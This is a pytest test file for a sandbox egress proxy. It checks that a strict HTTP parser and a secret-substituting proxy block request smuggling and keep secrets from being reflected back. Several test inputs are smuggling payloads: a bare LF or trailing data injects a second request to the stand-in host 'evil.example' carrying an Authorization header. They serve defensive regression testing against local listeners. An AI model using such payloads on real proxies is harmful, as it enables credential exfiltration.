"""Every HTTP head the egress proxy reads is parsed strictly (protocol.parse_head), and an intercepted connection
(secrets at egress) carries exactly one request and one response. Found attacking (issue 25, B2-B4): a bare LF in a
header smuggled a second request, with the real value swapped in, to another virtual host of a lenient upstream;
a bare LF in a plain-HTTP header put the code's own Host ahead of the proxy's; the value came back to the code in a
chunked reflection and in a reflection that paused half-way.

The upstreams here are this test's own listeners on 127.0.0.1 (a TLS one, lenient the way RFC 9112 lets a recipient
be: a bare LF ends a line, requests are served one after another on a connection)."""

from __future__ import annotations

import socket
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from execbox.kit.proxy import secrets as es
from execbox.kit.proxy import server as px
from execbox.kit.proxy.protocol import HeadError, parse_head
from execbox.kit.proxy.server import EgressProxy, ProxyRun
from execbox.policy.egress import EgressPolicy
from execbox.secrets import egress as egress_given
from tests.backends.test_secrets_egress import SECRET_HOST, upstream_ca

NAME = "API_KEY"
VALUE = "sk-live-" + "0123456789abcdef" * 3

# --- the parser ---------------------------------------------------------------------------------------------


def test_a_plain_request_head_parses_with_its_body_length() -> None:
    head = parse_head(b"POST /a?b=1 HTTP/1.1\r\nHost: x.example\r\nContent-Length: 5\r\nX-A:  v \t\r\n\r\n")
    assert head.start == ("POST", "/a?b=1", "HTTP/1.1") and head.length == 5 and not head.chunked
    assert head.values("x-a") == ["v"] and head.values("host") == ["x.example"]
    assert parse_head(b"GET / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n").chunked
    assert parse_head(b"GET / HTTP/1.0\r\n\r\n").length == 0


def test_a_response_head_says_how_its_body_ends() -> None:
    def body(raw: bytes, method: str = "GET") -> int | None:
        return parse_head(raw, response=True).body_after(method)

    assert body(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\n") == 7
    assert body(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\n", "HEAD") == 0
    assert body(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n") == -1
    assert body(b"HTTP/1.1 200\r\n\r\n") is None
    assert body(b"HTTP/1.1 204 No Content\r\n\r\n") == body(b"HTTP/1.1 100 Continue\r\n\r\n") == 0


@pytest.mark.parametrize(("raw", "why"), [
    (b"GET / HTTP/1.1\r\nHost: a\nHost: b\r\n\r\n", "CR or LF"),
    (b"GET / HTTP/1.1\r\nX: a\rb\r\n\r\n", "CR or LF"),
    (b"GET / HTTP/1.1\nHost: a\r\n\r\n", "CR or LF"),
    (b"GET / HTTP/1.1\r\nX: a\x00b\r\n\r\n", "NUL"),
    (b"GET / HTTP/1.1\r\nX: a\x01b\r\n\r\n", "malformed header"),
    (b"GET / HTTP/1.1\r\nX: a\r\n folded\r\n\r\n", "folded"),
    (b"GET / HTTP/1.1\r\nX: a\r\n\tfolded\r\n\r\n", "folded"),
    (b"GET  / HTTP/1.1\r\n\r\n", "request line"),
    (b"GET / HTTP/1.1 \r\n\r\n", "request line"),
    (b"GET / HTTP/2\r\n\r\n", "request line"),
    (b"G(T / HTTP/1.1\r\n\r\n", "request line"),
    (b"GET / HTTP/1.1\r\nX : a\r\n\r\n", "malformed header"),
    (b"GET / HTTP/1.1\r\nno colon\r\n\r\n", "malformed header"),
    (b"POST / HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n", "both"),
    (b"POST / HTTP/1.1\r\nTransfer-Encoding: gzip, chunked\r\n\r\n", "other than chunked"),
    (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n", "other than chunked"),
    (b"POST / HTTP/1.1\r\nTransfer-Encoding: xchunked\r\n\r\n", "other than chunked"),
    (b"POST / HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\n", "Content-Length"),
    (b"POST / HTTP/1.1\r\nContent-Length: +3\r\n\r\n", "Content-Length"),
    (b"GET / HTTP/1.1\r\n\n", "empty line"),
])
def test_heads_a_lenient_reader_would_read_otherwise_are_refused(raw: bytes, why: str) -> None:
    with pytest.raises(HeadError, match=why):
        parse_head(raw)


def test_a_response_head_is_held_to_the_same_rules() -> None:
    for raw in (b"HTTP/1.1 200 OK\r\nX: a\nSet-Cookie: b\r\n\r\n", b"HTTP/1.1 2000 OK\r\n\r\n",
                b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n"):
        with pytest.raises(HeadError):
            parse_head(raw, response=True)


_NAME = st.text("abcdefghijklmnopqrstuvwxyz-", min_size=1, max_size=12)
_VALUE = st.text("abcdefghijklmnopqrstuvwxyz0123456789 /:;=,.", max_size=30).map(str.strip)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(_NAME, _VALUE), max_size=8), st.data())
def test_a_cr_lf_or_nul_anywhere_but_a_crlf_is_refused_and_a_clean_head_parses(
        fields: list[tuple[str, str]], data: st.DataObject) -> None:
    fields = [(n, v) for n, v in fields if n.lower() not in ("content-length", "transfer-encoding")]
    raw = ("GET /p HTTP/1.1\r\n" + "".join(f"{n}: {v}\r\n" for n, v in fields) + "\r\n").encode()
    assert parse_head(raw).fields == tuple(fields)
    where = data.draw(st.integers(0, len(raw) - 5))
    bad = data.draw(st.sampled_from([b"\n", b"\r", b"\0"]))
    # every CRLF of a clean head is a line end, so one more CR, LF or NUL is always a stray one
    with pytest.raises(HeadError):
        parse_head(raw[:where] + bad + raw[where:])


# --- a lenient TLS upstream and a client that speaks as the sandbox does -------------------------------------


class Lenient:
    """A TLS server that reads requests as a lenient recipient does (a bare LF ends a line), serves every
    request of a connection in turn, records each (its lines, its body), and answers with ``respond``."""

    def __init__(self, tls: ssl.SSLContext, respond: Callable[[list[bytes], bytes, socket.socket], None]) -> None:
        self.respond = respond
        self.requests: list[tuple[list[bytes], bytes]] = []
        self.raw = b""
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.tls = tls
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._one, args=(conn,), daemon=True).start()

    def _one(self, conn: socket.socket) -> None:
        try:
            conn.settimeout(30)
            tls = self.tls.wrap_socket(conn, server_side=True)
            buf = b""
            while True:
                while b"\n\n" not in buf.replace(b"\r\n", b"\n"):
                    data = tls.recv(65536)
                    if not data:
                        return
                    self.raw += data
                    buf += data
                lines: list[bytes] = []
                while True:
                    line, _, buf = buf.partition(b"\n")
                    line = line.removesuffix(b"\r")
                    if not line:
                        break
                    lines.append(line)
                length = next((int(x.split(b":", 1)[1]) for x in lines if x.lower().startswith(b"content-length:")),
                              0)
                while len(buf) < length:
                    data = tls.recv(65536)
                    if not data:
                        return
                    self.raw += data
                    buf += data
                body, buf = buf[:length], buf[length:]
                self.requests.append((lines, body))
                self.respond(lines, body, tls)
        except (OSError, ValueError):
            return
        finally:
            conn.close()

    def close(self) -> None:
        self.sock.close()


def header(lines: list[bytes], name: bytes) -> bytes:
    return next((x.split(b":", 1)[1].strip() for x in lines[1:] if x.lower().startswith(name + b":")), b"")


def echo_auth(lines: list[bytes], body: bytes, tls: socket.socket) -> None:
    answer = b"auth=" + header(lines, b"authorization") + b" body=" + body
    tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%b" % (len(answer), answer))


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
    ca, tls = upstream_ca(tmp_path)
    servers: list[Lenient] = []

    async def resolve(host: str, port: int) -> list[str]:
        return ["127.0.0.1"]

    monkeypatch.setattr(px, "resolve", resolve)

    def start(respond: Callable[[list[bytes], bytes, socket.socket], None] = echo_auth, *, body: bool = False,
              allow: bool = True) -> tuple[EgressProxy, ProxyRun, Lenient, bytes]:
        server = Lenient(tls, respond)
        servers.append(server)
        allowed = [f"127.0.0.1/32:{server.port}"] + ([f"{SECRET_HOST}:{server.port}"] if allow else [])
        proxy = EgressProxy(EgressPolicy.build(allowed, defaults=False), ca_bundle=ca)
        proxies.append(proxy)
        destination = f"{SECRET_HOST}:{server.port}" + (egress_given.IN_BODY if body else "")
        run = proxy.start_run(egress_given.RunSecrets(egress_given.check({NAME: (destination, VALUE)})))
        return proxy, run, server, run.secrets.secrets[0].placeholder

    proxies: list[EgressProxy] = []
    yield {"start": start}
    for proxy in proxies:
        proxy.close()
    for server in servers:
        server.close()


def through(proxy: EgressProxy, run: ProxyRun, port: int, request: bytes,
            send: Callable[[ssl.SSLSocket], None] | None = None) -> bytes:
    """``request`` over the run's socket, CONNECTed to the secret's host and over TLS trusting the sandbox's CA (as
    the sandbox's client would); everything that came back."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as raw:
        raw.settimeout(30)
        raw.connect(run.host_socket)
        raw.sendall(f"CONNECT {SECRET_HOST}:{port} HTTP/1.1\r\nHost: {SECRET_HOST}:{port}\r\n\r\n".encode())
        got = b""
        while not got.endswith(b"\r\n\r\n"):
            got += raw.recv(1)
        assert got.startswith(b"HTTP/1.1 200"), got
        ctx = ssl.create_default_context(cafile=str(Path(proxy.directory) / es.BUNDLE_FILE))
        with ctx.wrap_socket(raw, server_hostname=SECRET_HOST) as tls:
            tls.sendall(request)
            if send is not None:
                send(tls)
            chunks = []
            try:
                while chunk := tls.recv(65536):
                    chunks.append(chunk)
            except (ssl.SSLError, OSError):
                pass
    return b"".join(chunks)


# --- B2: one request per intercepted connection, no bare LF -------------------------------------------------


def test_a_bare_lf_cannot_smuggle_a_request_to_another_virtual_host(world: dict[str, Any]) -> None:
    """The issue's repro: a header value holding ``\\n\\nGET /echo ...\\nHost: evil...\\nAuthorization: Bearer
    PLACEHOLDER``; the lenient upstream would serve it as a second request, to evil, with the value in it."""
    proxy, run, server, placeholder = world["start"]()
    smuggled = (b"GET / HTTP/1.1\r\nHost: " + SECRET_HOST.encode() + b"\r\nX-Note: a\n\nGET /echo HTTP/1.1\n"
                b"Host: evil.example\nAuthorization: Bearer " + placeholder + b"\r\n\r\n")
    answer = through(proxy, run, server.port, smuggled)
    attempts, _ = proxy.finish_run(run)
    assert answer.startswith(b"HTTP/1.1 400"), answer
    assert server.requests == [] and VALUE.encode() not in server.raw
    [attempt] = attempts
    assert not attempt.allowed and "CR or LF" in attempt.reason


def test_a_second_request_behind_the_first_never_leaves(world: dict[str, Any]) -> None:
    proxy, run, server, placeholder = world["start"]()
    first = b"GET /one HTTP/1.1\r\nHost: " + SECRET_HOST.encode() + b"\r\nAuthorization: Bearer " + placeholder
    second = b"GET /echo HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer " + placeholder
    answer = through(proxy, run, server.port, first + b"\r\n\r\n" + second + b"\r\n\r\n")
    proxy.finish_run(run)
    assert [lines[0] for lines, _ in server.requests] == [b"GET /one HTTP/1.1"]
    assert header(server.requests[0][0], b"authorization") == b"Bearer " + VALUE.encode()
    assert answer.count(b"HTTP/1.1 200") == 1 and VALUE.encode() not in answer
    assert answer.endswith(b"auth=Bearer " + placeholder + b" body=")


def test_a_chunked_request_body_is_forwarded_exactly_and_nothing_after_it(world: dict[str, Any]) -> None:
    proxy, run, server, _ = world["start"]()
    request = (b"POST /c HTTP/1.1\r\nHost: " + SECRET_HOST.encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
               b"3\r\nabc\r\n2;ext=1\r\nde\r\n0\r\nTrailer: x\r\n\r\nGET /echo HTTP/1.1\r\nHost: evil.example\r\n\r\n")

    def read_chunked(lines: list[bytes], body: bytes, tls: socket.socket) -> None:
        tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")

    server.respond = read_chunked
    through(proxy, run, server.port, request)
    proxy.finish_run(run)
    assert server.raw.endswith(b"\r\n\r\n3\r\nabc\r\n2\r\nde\r\n0\r\n\r\n")
    assert b"evil" not in server.raw and b"Trailer" not in server.raw


# --- B4: plain HTTP ------------------------------------------------------------------------------------------


def test_a_bare_lf_cannot_put_the_code_s_host_ahead_of_the_proxy_s() -> None:
    seen: list[bytes] = []
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]

    def serve() -> None:
        with listener:
            listener.settimeout(30)
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            with conn:
                seen.append(conn.recv(65536))
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")

    threading.Thread(target=serve, daemon=True).start()
    proxy = EgressProxy(EgressPolicy.build([f"127.0.0.1/32:{port}"], defaults=False))
    try:
        run = proxy.start_run()
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(30)
            s.connect(run.host_socket)
            s.sendall(f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nX-A: a\nHost: evil.example\r\n\r\n".encode())
            answer = s.recv(65536)
        [attempt], _ = proxy.finish_run(run)
    finally:
        proxy.close()
        listener.close()
    assert answer.startswith(b"HTTP/1.1 400") and seen == []
    assert (attempt.host, attempt.port, attempt.allowed) == ("127.0.0.1", port, False)
    assert "CR or LF" in attempt.reason


# --- B3: what comes back -------------------------------------------------------------------------------------


def test_a_chunked_reflection_never_carries_the_value_back(world: dict[str, Any]) -> None:
    def chunked_echo(lines: list[bytes], body: bytes, tls: socket.socket) -> None:
        auth = header(lines, b"authorization")
        pieces = [auth[:10], auth[10:11], auth[11:30], auth[30:]]  # the value split by chunk framing
        tls.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                    + b"".join(b"%x\r\n%b\r\n" % (len(p), p) for p in pieces) + b"0\r\nX-Echo: " + auth + b"\r\n\r\n")

    proxy, run, server, placeholder = world["start"](chunked_echo)
    answer = through(proxy, run, server.port,
                     b"GET / HTTP/1.1\r\nHost: " + SECRET_HOST.encode() + b"\r\nAuthorization: " + placeholder
                     + b"\r\n\r\n")
    proxy.finish_run(run)
    assert header(server.requests[0][0], b"authorization") == VALUE.encode()
    assert VALUE.encode() not in answer and VALUE[:12].encode() not in answer
    head, _, body = answer.partition(b"\r\n\r\n")
    dechunked, rest = b"", body
    while True:
        size_line, _, rest = rest.partition(b"\r\n")
        size = int(size_line, 16)
        if not size:
            break
        dechunked, rest = dechunked + rest[:size], rest[size + 2:]
    assert dechunked == placeholder


def test_a_reflection_that_pauses_half_way_never_lets_the_value_out(world: dict[str, Any]) -> None:
    def slow_echo(lines: list[bytes], body: bytes, tls: socket.socket) -> None:
        auth = header(lines, b"authorization")
        tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%b" % (len(auth) + 2, auth[:20]))
        time.sleep(0.5)  # well past the 100 ms after which a held-back start used to be let out
        tls.sendall(auth[20:] + b"\r\n")

    proxy, run, server, placeholder = world["start"](slow_echo)
    answer = through(proxy, run, server.port,
                     b"GET / HTTP/1.1\r\nHost: " + SECRET_HOST.encode() + b"\r\nAuthorization: " + placeholder
                     + b"\r\n\r\n")
    proxy.finish_run(run)
    assert VALUE[:9].encode() not in answer
    assert answer.endswith(b"\r\n\r\n" + placeholder + b"\r\n")


def test_a_reflection_cut_short_gives_the_placeholder_s_start_not_the_value_s(world: dict[str, Any]) -> None:
    def truncated(lines: list[bytes], body: bytes, tls: socket.socket) -> None:
        tls.sendall(b"HTTP/1.1 200 OK\r\n\r\nkey=" + header(lines, b"authorization")[:25])
        tls.close()

    proxy, run, server, placeholder = world["start"](truncated)
    answer = through(proxy, run, server.port,
                     b"GET / HTTP/1.1\r\nHost: " + SECRET_HOST.encode() + b"\r\nAuthorization: " + placeholder
                     + b"\r\n\r\n")
    proxy.finish_run(run)
    assert answer.endswith(b"key=" + placeholder[:25]) and VALUE[:9].encode() not in answer


def test_bodies_carry_the_placeholder_unless_the_secret_opts_in(world: dict[str, Any]) -> None:
    for opted_in in (False, True):
        proxy, run, server, placeholder = world["start"](body=opted_in)
        body = b'{"key": "' + placeholder + b'"}'
        through(proxy, run, server.port,
                b"POST /store HTTP/1.1\r\nHost: " + SECRET_HOST.encode() + b"\r\nAuthorization: " + placeholder
                + b"\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        [attempt], _ = proxy.finish_run(run)
        [(lines, got)] = server.requests
        assert header(lines, b"authorization") == VALUE.encode() and attempt.secrets == [NAME]
        assert got == (body.replace(placeholder, VALUE.encode()) if opted_in else body)


def test_the_body_opt_in_is_spelled_on_the_destination() -> None:
    [(host, port, secret)] = egress_given.check({NAME: ("api.example.com:8443+body", VALUE)}).values()
    assert (host, port, secret.reveal()) == ("api.example.com", 8443, VALUE) and isinstance(secret, egress_given.InBody)
    [(_, _, plain)] = egress_given.check({NAME: ("api.example.com", VALUE)}).values()
    assert not isinstance(plain, egress_given.InBody)
    given = egress_given.check({"A": ("a.example+body", VALUE), "B": ("b.example", VALUE)})
    assert [s.body for s in egress_given.RunSecrets(given).secrets] == [True, False]
    assert egress_given.parse_setting("K=api.example.com+body") == "K=api.example.com+body"
    assert egress_given.from_setting(["K=api.example.com+BODY"], {"K": VALUE})["K"][:2] == ("api.example.com", 443)
    for bad in ("api.example.com+bodies", "+body", "api.example.com:+body"):
        with pytest.raises(ValueError):
            egress_given.check({NAME: (bad, VALUE)})


# --- C: the secret's host needs no allowlist entry of its own --------------------------------------------------


def test_a_secret_s_host_is_allowed_for_its_port_alone(world: dict[str, Any]) -> None:
    proxy, run, server, placeholder = world["start"](allow=False)
    answer = through(proxy, run, server.port,
                     b"GET / HTTP/1.1\r\nHost: " + SECRET_HOST.encode() + b"\r\nAuthorization: " + placeholder
                     + b"\r\n\r\n")
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:  # the same name on another port: not allowed
        s.settimeout(30)
        s.connect(run.host_socket)
        s.sendall(f"CONNECT {SECRET_HOST}:{server.port + 1} HTTP/1.1\r\n\r\n".encode())
        other = s.recv(65536)
    attempts, _ = proxy.finish_run(run)
    assert answer.startswith(b"HTTP/1.1 200") and other.startswith(b"HTTP/1.1 403")
    assert [(a.port, a.allowed) for a in attempts] == [(server.port, True), (server.port + 1, False)]
    assert f"the host of the secret at egress {NAME}" in attempts[0].reason
